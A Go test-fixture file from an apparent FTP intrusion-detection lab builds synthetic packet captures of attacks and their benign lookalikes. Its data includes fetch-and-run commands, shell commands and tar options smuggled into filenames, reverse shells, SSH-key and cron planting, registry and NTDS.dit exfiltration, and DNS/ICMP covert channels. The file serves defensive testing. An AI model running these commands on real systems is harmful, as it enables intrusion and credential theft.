// What hosts with a session do beside it, and what is hidden in a session, each with its innocent twin.

package baseline

import (
	"cmp"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"time"

	"ftplab/lab/internal/forge"
)

// nearby are attacks by hosts of a session, and what looks like them.
var nearby = []lookalike{
	{"a ClientHello of SSL 2 that nobody asked for", "tls-is-agreed", IsUnusual, func(f *forge.Capture) {
		t := f.Control().Say("< 220 ready")
		t.Segment("P.", "\x80\x22\x01\x00\x02\x00\x09\x00\x00\x00\x10\x01\x00\x80\x00\x00\x0a\x0a\x0d\x0achallenge\n0123\n5")
		t.Say("< 500 what?").Say(bye).Peer.Close()
	}},
	{"a few probes with all flags, and then a session", "no-scans", "", func(f *forge.Capture) {
		strange(f, "FPU", 21, 22, 80)
		session1("")(f)
	}},
	{"probes without flags, and no session", "no-scans", "", func(f *forge.Capture) { strange(f, "", 21, 22, 80, 443) }},
	{"one packet without flags", "no-scans", IsUnusual, func(f *forge.Capture) {
		strange(f, "", 21)
		session1("")(f)
	}},
	{"probes of one port with different flags, and then a session", "no-scans", "", func(f *forge.Capture) {
		for _, flags := range []string{"F", "", "FPU", "SF"} {
			strange(f, flags, 21)
		}
		session1("")(f)
	}},
	{"packets with all flags to many hosts", "no-scans", "", strangeTo(8)},
	{"packets with all flags to three hosts", "no-scans", IsUnusual, strangeTo(3)},
	{"a SYN that ends its connection", "no-scans", IsUnusual, func(f *forge.Capture) {
		strange(f, "SF", 21)
		session1("")(f)
	}},
	{"a program that ends a connection without ACK", "no-scans", IsNormal, func(f *forge.Capture) {
		t := f.Control().Say(hello).Say(bye)
		t.Segment("F", "")
		t.Peer.Close()
	}},

	{"a shell for a host without a session", "no-third-ports", "", elsewhereAt("203.0.113.66:4445", func(t *forge.End) {
		t.Segment("P.", "Microsoft Windows [Version 10.0.19045.3803]\r\n\r\nC:\\ftp>")
		t.Peer.Segment("P.", "net user hax P4ss /add\r\n")
	})},
	{"a shell at a port of another host", "no-third-ports", IsUnusual, elsewhereAt("203.0.113.66:2323", func(t *forge.End) {
		t.Peer.Segment("P.", "ada@devices:~$ ")
		t.Segment("P.", "uptime\r\n")
	})},
	{"a command for a shell, at a port of another host", "no-third-ports", IsNormal, elsewhereAt("203.0.113.66:2323", func(t *forge.End) {
		t.Segment("P.", "id\r\n")
		t.Peer.Segment("P.", "17\r\n")
	})},
	{"a server that calls its client", "no-third-ports", IsUnusual, func(f *forge.Capture) {
		t := f.Control().Say(hello)
		dial(f, aServer, aClient+":502").Say("> open\n< sesame").Close()
		t.Say(bye).Peer.Close()
	}},
	{"a shell at a system port", "no-third-ports", "", func(f *forge.Capture) {
		t := f.Control().Say(hello)
		dial(f, aClient, aServer+":1023").Say("> id\n< uid=0(root) gid=0(root)").Close()
		t.Say(bye).Peer.Close()
	}},
	{"a shell that was open before the session", "no-third-ports", "", besideShell(":1225", true, 30*time.Second, true)},
	{"a shell that was open long before the session, without the handshake", "no-third-ports", "", func(f *forge.Capture) {
		besideShell(":1225", false, time.Hour, true)(f)
		f.Frames = f.Frames[3:]
	}},
	{"a shell that ends shortly before the session", "no-third-ports", "", besideShell(":1225", false, 30*time.Second, false)},
	{"a shell long before the session", "no-third-ports", IsUnusual, besideShell(":2323", false, time.Hour, false)},
	{"a shell long before the session, which the client hands over", "no-third-ports", "", besideShell(":1225", true, time.Hour, false)},
	{"a shell that the client hands over at the port of a service", "no-third-ports", "", besideShell(":443", true, 30*time.Second, true)},
	{"a shell for the client at the port of a service, which types first", "no-third-ports", "", func(f *forge.Capture) {
		f.Control().Say(hello).Say(bye).Peer.Close()
		f.Pass(8 * time.Second)
		t := dial(f, aServer, aClient+":8443")
		t.Peer.Segment("P.", "python3 -c \"import pty;pty.spawn('/bin/bash')\"\n")
		t.Segment("P.", "ada@files:/$ ")
		t.Close()
	}},
	{"Telnet at its port before and beside the session", "no-third-ports", IsNormal, besideShell(":23", false, time.Minute, true)},
	{"a remote login at its port before and beside the session", "no-third-ports", IsNormal, besideShell(":513", false, time.Minute, true)},
	{"a conversation with another host", "no-third-ports", IsNormal, elsewhereAt("203.0.113.66:4445", func(t *forge.End) {
		t.Segment("P.", "state?\r\n")
		t.Peer.Segment("P.", "fine\r\n")
	})},

	{"questions about digests of files", "no-hidden-channels", IsUnusual, func(f *forge.Capture) {
		asksCoded(f, 70, 1)
		session1("")(f)
	}},
	{"the same question again and again", "no-hidden-channels", IsNormal, func(f *forge.Capture) {
		for range 70 {
			asksCoded(f, 1, 2)
		}
		session1("")(f)
	}},
	{"a conversation in echoes", "no-hidden-channels", "", func(f *forge.Capture) {
		session1("")(f)
		for i := range 9 {
			same := strings.Repeat("x", 80)
			echoes(f, aClient, "203.0.113.66", fmt.Sprint(same, "SSH-2.0 ask ", i), fmt.Sprint(same, "SSH-2.0 tell ", i))
		}
	}},
	{"echoes that come back, some of them cut", "no-hidden-channels", IsNormal, func(f *forge.Capture) {
		session1("")(f)
		for i := range 9 {
			echoes(f, aClient, aServer, fmt.Sprint("echo ", i), fmt.Sprint("echo ", i)[:5+i%2])
		}
	}},

	{"an instruction to fetch a program and run it", "files-are-no-orders", "", instructed("ftpget 192.0.2.21 x x.arm; chmod 777 x; ./x")},
	{"an instruction to fetch a program", "files-are-no-orders", IsNormal, instructed("ftpget 192.0.2.21 x x.arm")},
	{"an instruction to fetch and run another program", "files-are-no-orders", IsNormal, instructed("ftpget 192.0.2.21 y y.arm; chmod 777 y; ./y")},
	{"a page about how to fetch and to run a program", "files-are-no-orders", IsNormal, func(f *forge.Capture) {
		dial(f, aClient, "203.0.113.80:80").Say("> GET / HTTP/1.0\n< HTTP/1.0 200 OK\n+ \n+ wget ftp://192.0.2.21/x.arm; chmod 755 x.arm; ./x.arm").Peer.Close()
		moves([2]string{"RETR x.arm", "\x7fELF"})(f)
	}},

	{"a server whose screen somebody looks at after an upload", "no-signs-agree", "", withScreen(aClient, aServer)},
	{"a server nearby whose screen somebody looks at after an upload", "no-signs-agree", IsUnusual, withScreen("10.0.0.5", "10.0.0.9")},
	{"a server whose screen somebody looks at all the time", "no-signs-agree", IsNormal, func(f *forge.Capture) {
		looksAtScreen(f, aClient, aServer)
		withScreen(aClient, aServer)(f)
	}},

	{"a stored script that fetches from who stored it", "programs-do-not-report", "", callsBackFor("> STOR up.cgi\n< 150 go on\n< 226 done\n> SITE CHMOD 755 up.cgi\n< 200 ok", ":80")},
	{"a server that asks who its client is", "programs-do-not-report", IsNormal, callsBackFor("> STOR up.cgi\n< 150 go on\n< 226 done\n> SITE CHMOD 755 up.cgi\n< 200 ok", ":113")},
	{"a server that fetches from its client, which stores pictures", "programs-do-not-report", IsNormal, callsBackFor("> STOR a.jpg\n< 150 go on\n< 226 done", ":80")},

	{"two habits of a server, and a program", "reply-fits-command", IsUnusual, dialogue(hello + "\n> NOOP\n< 200 ok\n+ of course\n> RETR a.exe\n< 150 here\n< 226 done\n> QUIT\n< 220 bye")},
	{"a server whose logins end in an error", "server-answers", IsUnusual, func(f *forge.Capture) {
		for range 3 {
			f.Control().Say("< 220 ready\n> USER kim\n< 331 and?\n> PASS k1\n< 500 OOPS: cannot change directory").Peer.Close()
		}
	}},
	{"a command without an answer, and a client that goes on", "server-answers", IsUnusual, skips(40*time.Second, "")},
	{"a command without an answer, and a client that does not wait", "server-answers", IsNormal, skips(time.Second, "")},
	{"a command without an answer during a transfer", "server-answers", IsNormal, skips(40*time.Second, "> RETR a\n< 150 here")},
	{"a server that does not know a command, and goes on", "server-answers", IsNormal, session1("> MFMT 20150215120000 a\n< 500 what?")},

	{"a release at another port", "usual-ports", IsUnusual, release(":31021", "game.nfo")},
	{"a release at the usual port", "usual-ports", IsNormal, release(":21", "game.nfo")},
	{"an archive in parts at another port", "usual-ports", IsNormal, release(":31021", "readme.txt")},

	{"a client that greets, and a server that logs in", "ftp-at-the-ftp-port", "", func(f *forge.Capture) {
		t := dial(f, aClient, aServer+":21")
		for _, line := range []string{"220 ready", "USER x", "331 and?", "PASS y", "230 in", "LIST C:\\", "226 done"} {
			t.Segment("P.", line+"\r\n")
			t = t.Peer
		}
		t.Close()
	}},
	{"a server that is down all the time", "calls-are-answered", IsUnusual, func(f *forge.Capture) {
		for range 12 {
			refusedConnection(f)
			f.Pass(30 * time.Second)
		}
	}},
	{"a server that starts late", "calls-are-answered", IsNormal, func(f *forge.Capture) {
		for range 12 {
			refusedConnection(f)
			f.Pass(30 * time.Second)
		}
		session1("")(f)
	}},

	{"a way out by names with a colon", "no-climbing", "", session1("> RETR ..:/..:/program files/a.ini\n< 550 no")},
	{"a folder whose name ends in a colon", "no-climbing", IsNormal, session1("> RETR drafts..:/a.ini\n< 550 no")},
	{"the home of root before the password", "no-known-exploits", "", dialogue("< 220 hi\n> USER ftp\n< 331 and?\n> CWD ~root\n< 530 no\n> PASS ftp\n< 230 in" + bye)},
	{"the home of root after the login", "no-known-exploits", IsNormal, session1("> CWD ~root\n< 550 no")},
	{"an option for tar in a name", "no-known-exploits", "", session1("> RETR --use-compress-program=bash b.tar\n< 550 no")},
	{"a name that begins with hyphens", "no-known-exploits", IsNormal, session1("> RETR --old--.tar\n< 550 no")},
	{"the stream of a page", "no-known-exploits", "", session1("> RETR default.asp::$DATA\n< 550 no")},
	{"another stream of a file", "no-known-exploits", IsNormal, session1("> STOR a.docx:Zone.Identifier:$DATA\n< 550 no")},
	{"a folder of another host", "no-known-exploits", IsUnusual, session1(`> CWD \\203.0.113.74\share` + "\n< 550 no")},
	{"commands in names", "no-known-exploits", "", session1("> STOR `id>/tmp/o`.jpg\n< 150 go on\n< 226 done")},
	{"a command in a name, with an argument", "no-known-exploits", "", session1("> STOR a;wget 203.0.113.74 -O- |sh;.jpg\n< 150 go on\n< 226 done")},
	{"names with marks of shells", "no-known-exploits", IsNormal, session1(linesOf("> STOR %s\n< 150 go on\n< 226 done\n", "$(name).tmpl", "`a b`.md", "tea; coffee.txt", "a|b.txt", "How to $(build).txt", "wget, curl & co.txt"))},
	{"files that nobody may read any more", "files-are-kept", "", session1(numberedLines(20, "> SITE CHMOD 000 a%d.doc\n< 200 ok\n"))},
	{"files that others may not read any more", "files-are-kept", IsNormal, session1(numberedLines(20, "> SITE CHMOD 600 a%d.doc\n< 200 ok\n") + numberedLines(3, "> SITE CHMOD 000 b%d.php\n< 200 ok\n"))},
	{"archives that look like pictures", "no-loot", "", moves([2]string{"STOR a.jpg", "7z\xbc\xaf\x27\x1c"}, [2]string{"STOR b.jpg", "7z\xbc\xaf\x27\x1c"}, [2]string{"STOR c.jpg", "7z\xbc\xaf\x27\x1c"})},
	{"an archive that looks like a picture", "no-loot", IsUnusual, moves([2]string{"STOR a.jpg", "7z\xbc\xaf\x27\x1c"})},
	{"the hosts of a network, which leave it", "no-loot", "", storesBetween("10.40.3.60", "203.0.113.9", "STOR r.txt", strings.Repeat("Nmap scan report for 10.40.3.1\n22/tcp open ssh\n", 9))},
	{"the services of a host of Windows, which leave its network", "no-loot", IsUnusual, storesBetween("10.40.3.60", "203.0.113.9", "STOR r.txt", "Nmap scan report for 10.40.3.1\n445/tcp open microsoft-ds\n")},
	{"the services of a host of Windows, which stay in its network", "no-loot", IsNormal, storesBetween("10.40.3.60", "10.40.3.9", "STOR r.txt", "Nmap scan report for 10.40.3.1\n445/tcp open microsoft-ds\n")},
	{"the services of one host, which leave its network", "no-loot", IsNormal, storesBetween("10.40.3.60", "203.0.113.9", "STOR r.txt", "Nmap scan report for 10.40.3.1\n22/tcp open ssh\n")},
	{"the hosts of a network, which stay in it", "no-loot", IsNormal, storesBetween("10.40.3.60", "10.40.3.9", "STOR r.txt", strings.Repeat("Nmap scan report for 10.40.3.1\n22/tcp open ssh\n", 9))},
	{"parts of the registry under other names", "no-sensitive-names", "", moves([2]string{"STOR 1.tmp", registryPart("SAM")}, [2]string{"STOR 2.tmp", registryPart("SYSTEM")})},
	{"parts of the registry of programs", "no-sensitive-names", IsNormal, moves([2]string{"STOR 1.tmp", registryPart("settings.dat")}, [2]string{"STOR 2.tmp", registryPart("UsrClass.dat")})},
	{"the directory of Windows as a backup", "no-sensitive-names", "", moves([2]string{"STOR backup.bak", aDatabase + strings.Repeat("\x00", 99) + "\x00NTDS.dit"})},

	{"installers with one name and a file that starts them", "no-signs-agree", IsUnusual, func(f *forge.Capture) {
		t := f.Control().Say(hello)
		for i := range 3 {
			t.Say(fmt.Sprintf("> MKD /d%[1]d\n< 257 ok\n> CWD /d%[1]d\n< 250 ok\n> STOR autorun.inf\n< 150 go on\n< 226 done", i))
			move(t, 40000+i, "STOR setup.exe", fmt.Sprint("MZ\x90", i))
		}
		t.Say(bye).Peer.Close()
	}},
	{"a program with one name in three folders and a file that starts it", "no-signs-agree", "", func(f *forge.Capture) {
		t := f.Control().Say(hello)
		for i := range 3 {
			t.Say(fmt.Sprintf("> CWD /d%d\n< 250 ok\n> STOR autorun.inf\n< 150 go on\n< 226 done", i))
			move(t, 40000+i, "STOR setup.exe", "MZ\x90")
		}
		t.Say(bye).Peer.Close()
	}},
	{"a job that an administrator edits", "no-sensitive-names", IsUnusual, inner("> RETR /etc/cron.d/backup\n< 150 here\n< 226 done\n> STOR /etc/cron.d/backup\n< 150 go on\n< 226 done")},
	{"a job that nobody had before", "no-sensitive-names", "", inner("> STOR /etc/cron.d/backup\n< 150 go on\n< 226 done")},
	{"a key of one's own", "no-sensitive-names", IsUnusual, inner("> STOR .ssh/authorized_keys\n< 150 go on\n< 226 done")},
	{"a key of another user", "no-sensitive-names", "", inner("> STOR /home/mallory/.ssh/authorized_keys\n< 150 go on\n< 226 done")},
	{"a program with other bytes for one client", "bytes-agree", "", fetchedTwice("a.exe", "20260301120000", "MZ\x90 one", "MZ\x90 two")},
	{"a text with other bytes for one client", "bytes-agree", IsNormal, fetchedTwice("status.txt", "20260301120000", "one", "two")},
	{"a file that was changed", "bytes-agree", IsNormal, fetchedTwice("a.exe", "", "MZ\x90 one", "MZ\x90 two")},
	{"a file with the same bytes for two clients", "bytes-agree", IsNormal, fetchedTwice("a.exe", "20260301120000", "MZ\x90 one", "MZ\x90 one")},
	{"a file that is a thousand times as long as the server says", "bytes-agree", "", longFile("I", 100, 140)},
	{"a log that grows", "bytes-agree", IsUnusual, longFile("I", 70000, 140)},
	{"a text with more line ends", "bytes-agree", IsNormal, longFile("A", 70000, 71)},

	{"listings of random bytes", "no-climbing", "", moves([2]string{"LIST", noiseOf(600)}, [2]string{"LIST", noiseOf(600)}, [2]string{"LIST", noiseOf(600)})},
	{"a listing of random bytes", "no-climbing", IsUnusual, moves([2]string{"LIST", noiseOf(600)})},
	{"a listing in Greek", "no-climbing", IsNormal, moves([2]string{"LIST", strings.Repeat("-rw-r--r-- 1 0 0 9 Jan 1 2020 \xe1\xf0\xef\xe4\xe5\xdf\xee\xe5\xe9\xf2.txt\r\n", 9)})},

	{"a key that is stored under another name", "no-sensitive-names", "", session1("> STOR a.txt\n< 150 go on\n< 226 done\n> RNFR a.txt\n< 350 and?\n> RNTO /root/.ssh/authorized_keys\n< 250 ok")},
	{"a list of keys that is put aside", "no-sensitive-names", IsUnusual, session1("> RNFR .ssh/authorized_keys\n< 350 and?\n> RNTO .ssh/authorized_keys.old\n< 250 ok")},

	{"the output of commands in NOOPs", "control-carries-dialogue", "", paused(20*time.Second, "> NOOP Y29ycFxqc21pdGg=\n< 200 ok\n> NOOP V2luZG93cyBJUCBDb25maWd1cmF0aW9u\n< 200 ok\n> NOOP U3lzdGVtIHNtc3MuZXhlIGNzcnNzLmV4ZSBsc2Fzcy5leGU=\n< 200 ok\n> NOOP QWRtaW5pc3RyYXRvciBHdWVzdCBrcmJ0Z3QganNtaXRoIHN2Y19zcWw=\n< 200 ok\n> NOOP Y29ycFxqc21pdGgyMDI2LTExLTMw\n< 200 ok\n")},

	{"a stranger that fetches the file, and a client that comes too late", "data-with-the-partner", "", func(f *forge.Capture) {
		t := f.Control().Say(hello).Say("> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a\n< 150 here")
		download(f, "203.0.113.66", aServer+":25600", answerer, 100)
		t.Say("< 226 done")
		refuse(f, aClient, aServer+":25600")
		t.Say(bye).Peer.Close()
	}},
	{"a stranger that fetches the file, and a client that is refused elsewhere", "data-with-the-partner", IsUnusual, func(f *forge.Capture) {
		t := f.Control().Say(hello).Say("> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a\n< 150 here")
		download(f, "203.0.113.66", aServer+":25600", answerer, 100)
		t.Say("< 226 done")
		refuse(f, aClient, aServer+":8080")
		t.Say(bye).Peer.Close()
	}},

	{"a host that claims the addresses of both, and passes their packets on as they are", "no-detours", "", handedOn(0x66, 0, func(forge.Frame) bool { return true }, func(f *forge.Capture) {
		for range 3 {
			claim(f, 0x66, aServer)
			claim(f, 0x66, aClient)
		}
		session1("")(f)
	})},
	{"a balancer of load that claims the address of the server, and passes packets on as they are", "no-detours", IsNormal, handedOn(0x66, 0, fromClient, func(f *forge.Capture) {
		for range 5 {
			claim(f, 0x66, aServer)
		}
		session1("")(f)
	})},
	{"a host that claims the addresses of both, and sends their packets again", "no-detours", "", sentAgain(func(f *forge.Capture) {
		for range 3 {
			claim(f, 0x66, aServer)
			claim(f, 0x66, aClient)
		}
	})},
	{"a wireless bridge that answers for hosts behind it", "no-detours", IsUnusual, sentAgain(func(f *forge.Capture) {
		wantsCard(f, aClient, aServer)
		claim(f, 0x66, aServer)
		wantsCard(f, aServer, aClient)
		claim(f, 0x66, aClient)
	})},
}

// fetchedTwice fetches a file twice, with two contents. The second time, it was changed at the given time, or later.
func fetchedTwice(name, changed string, contents ...string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		for i, content := range contents {
			time := cmp.Or(changed, fmt.Sprintf("2026030112000%d", i))
			t := f.Control().Say(hello).Say(fmt.Sprintf("> TYPE I\n< 200 ok\n> MDTM %s\n< 213 %s", name, time))
			move(t, 40000+i, "RETR "+name, content)
			t.Say(bye).Peer.Close()
		}
	}
}

// longFile fetches a file in so many segments of a thousand bytes, after the server said how many bytes it has.
func longFile(typ string, said, segments int) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello).Say(fmt.Sprintf("> TYPE %s\n< 200 ok\n> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a.log\n< 150 here (%d bytes)", typ, said))
		d := dial(f, aClient, aServer+":25600").Peer
		for range segments {
			d.Segment("P.", strings.Repeat("x", 1000))
			d.Peer.ACK()
		}
		d.Close()
		t.Say("< 226 done").Say(bye).Peer.Close()
	}
}

// inner is a session of two hosts of one private network.
func inner(lines string) func(*forge.Capture) {
	return func(f *forge.Capture) { dial(f, "10.0.0.5", "10.0.0.9:21").Say(hello).Say(lines).Say(bye).Peer.Close() }
}

// registryPart is a part of the registry of Windows with its name.
func registryPart(name string) string {
	return "regf" + strings.Repeat("\x00", 44) + wide(`System32\Config\`+name) + strings.Repeat("\x00", 99)
}

// strange sends a packet with the given flags to each port of the server, which are closed.
func strange(f *forge.Capture, flags string, ports ...int) {
	for _, port := range ports {
		t := overhear(f, aClient, addrPort(aServer, port))
		t.Segment(flags, "")
		t.Peer.Segment("R.", "")
	}
}

// strangeTo sends packets with impossible flags to n hosts, and then there is a session.
func strangeTo(n int) func(*forge.Capture) {
	return func(f *forge.Capture) {
		for i := range n {
			t := overhear(f, aClient, fmt.Sprintf("192.0.2.%d:21", i+30))
			t.Segment("FPU", "")
			t.Peer.Segment("R.", "")
		}
		session1("")(f)
	}
}

// elsewhereAt is a session, during which the server opens a connection to another host.
func elsewhereAt(to string, talk func(*forge.End)) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello)
		other := dial(f, aServer, to)
		talk(other)
		other.Close()
		t.Say(bye).Peer.Close()
	}
}

// besideShell is a session at some time after the client opened a shell at a port of the server, which goes on into the
// session or ends at once. The client hands it over, or types.
func besideShell(port string, hands bool, before time.Duration, goesOn bool) func(*forge.Capture) {
	return func(f *forge.Capture) {
		types := dial(f, aClient, aServer+port)
		prints := types.Peer
		if hands {
			types, prints = prints, types
		}
		prints.Segment("P.", "Microsoft Windows [Version 5.1.2600]\r\n\r\nC:\\ftp>")
		types.Segment("P.", "dir\r\n")
		if !goesOn {
			types.Close()
		}
		f.Pass(before)
		t := f.Control().Say(hello)
		if goesOn {
			prints.Segment("P.", "a.txt\r\n\r\nC:\\ftp>")
			types.Close()
		}
		t.Say(bye).Peer.Close()
	}
}

// sentAgain is a session after some claims by ARP. Card 0x66 sends each of its packets again, to the same card.
func sentAgain(claims func(*forge.Capture)) func(*forge.Capture) {
	return func(f *forge.Capture) {
		claims(f)
		begin := len(f.Frames)
		session1("")(f)
		frames := f.Frames[begin:]
		f.Frames = f.Frames[:begin:begin]
		for _, frame := range frames {
			again := frame
			again.Data = append([]byte(nil), frame.Data...)
			again.Data[11] = 0x66
			f.Frames = append(f.Frames, frame, again)
		}
	}
}

// asksCoded asks a name server for n names, each with so many labels of encoded bytes.
func asksCoded(f *forge.Capture, n, labels int) {
	for i := range n {
		sum := sha256.Sum256([]byte{byte(i)})
		question := []byte{0, byte(i), 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
		for k := range labels {
			label := hex.EncodeToString(sum[k*8 : k*8+20])
			question = append(append(question, byte(len(label))), label...)
		}
		f.UDP(aClient+":50000", "192.0.2.53:53", slices.Concat(question, []byte("\x01t\x04test\x00\x00\x01\x00\x01")))
	}
}

// echoes is an echo request with its reply.
func echoes(f *forge.Capture, from, to, asked, answer string) {
	a, b := netip.MustParseAddr(from), netip.MustParseAddr(to)
	f.IP(a, b, 1, append([]byte{8, 0, 0, 0, 0, 7, 0, 1}, asked...))
	f.IP(b, a, 1, append([]byte{0, 0, 0, 0, 0, 7, 0, 1}, answer...))
}

// instructed is an order by Telnet, and the download of a program after it.
func instructed(order string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		dial(f, "203.0.113.66", aClient+":23").Say("< login:\n> root\n< #\n> " + order).Close()
		moves([2]string{"RETR x.arm", "\x7fELF"})(f)
	}
}

// looksAtScreen is the beginning of a connection by VNC.
func looksAtScreen(f *forge.Capture, client, server string) {
	dial(f, client, server+":5900").Say("< RFB 003.008\n> RFB 003.008").Close()
}

// withScreen stores a program at a server, and looks at its screen then.
func withScreen(client, server string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		storesBetween(client, server, "STOR winvnc.exe", "MZ\x90\x00")(f)
		looksAtScreen(f, client, server)
	}
}

// callsBackFor is a session, during which the server connects to a port of its client.
func callsBackFor(lines, port string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello).Say(lines)
		dial(f, aServer, aClient+port).Say("> GET /k.sh HTTP/1.0\n< HTTP/1.0 200 OK").Peer.Close()
		t.Say(bye).Peer.Close()
	}
}

// release fetches the parts of an archive, and a text, from a server at the given port.
func release(port, text string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := dial(f, aClient, aServer+port).Say(hello)
		for i, name := range []string{"game.part1.rar", "game.part2.rar", "game.part3.rar", text} {
			move(t, 40000+i, "RETR "+name, "data of a file")
		}
		t.Say(bye).Peer.Close()
	}
}

// skips is a session in which NOOP gets no answer, and the client sends its next command after a while.
func skips(wait time.Duration, before string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello)
		if before != "" {
			t.Say(before)
		}
		t.Say("> NOOP")
		f.Pass(wait)
		if t.Say("> PWD\n< 257 \"/\""); before != "" {
			t.Say("< 226 done")
		}
		t.Say(bye).Peer.Close()
	}
}
